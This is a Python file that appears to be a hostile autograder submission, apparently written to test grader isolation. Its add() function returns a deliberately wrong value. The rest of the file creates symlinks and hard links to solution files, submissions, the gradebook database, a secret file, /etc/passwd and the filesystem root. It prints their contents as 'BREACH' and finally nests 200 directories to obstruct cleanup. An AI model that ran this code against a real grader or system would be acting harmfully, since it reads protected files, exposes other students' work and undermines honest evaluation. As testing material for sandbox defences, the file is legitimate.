"""Reaches other places through links in its own folder, also such as the grader might follow when it cleans up."""

import os


def add(a, b):
    return -1


targets = [
    "__COURSE__/solutions",
    "__COURSE__/submitted",
    "__COURSE__/output/gradebook.db",
    "__COURSE__/home/secret.txt",
    "/etc/passwd",
    "/",
]
for number, target in enumerate(targets):
    for make in (os.symlink, os.link):
        name = f"{make.__name__}{number}"
        try:
            make(target, name)
            print("made", name)
            print("BREACH", os.listdir(name) if os.path.isdir(name) else open(name, "rb").read())
        except OSError as error:
            print(name, type(error).__name__)
deep = "d"
for _ in range(200):
    os.mkdir(deep)
    os.chdir(deep)
